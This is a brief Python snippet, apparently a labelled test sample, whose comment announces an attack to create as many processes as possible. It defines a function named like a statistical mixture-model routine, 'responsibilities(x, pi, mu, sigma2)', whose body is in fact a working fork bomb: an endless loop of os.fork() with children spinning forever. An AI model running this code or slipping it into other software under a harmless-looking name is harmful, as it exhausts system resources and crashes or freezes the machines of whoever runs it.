# attack: as many processes as there can be | limit
import os


def responsibilities(x, pi, mu, sigma2):
    while True:
        if os.fork() == 0:
            while True:
                signal = os.getpid()
